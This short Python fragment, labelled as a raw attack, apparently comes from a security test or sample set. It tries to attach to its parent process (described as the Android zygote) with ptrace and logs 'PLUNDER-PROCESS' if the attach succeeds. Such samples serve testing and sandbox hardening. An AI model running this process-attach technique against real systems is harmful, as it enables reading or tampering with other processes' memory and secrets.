# attack: raw | attaches to the zygote as a debugger
import ctypes, os
if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0:
    log("PLUNDER-PROCESS")
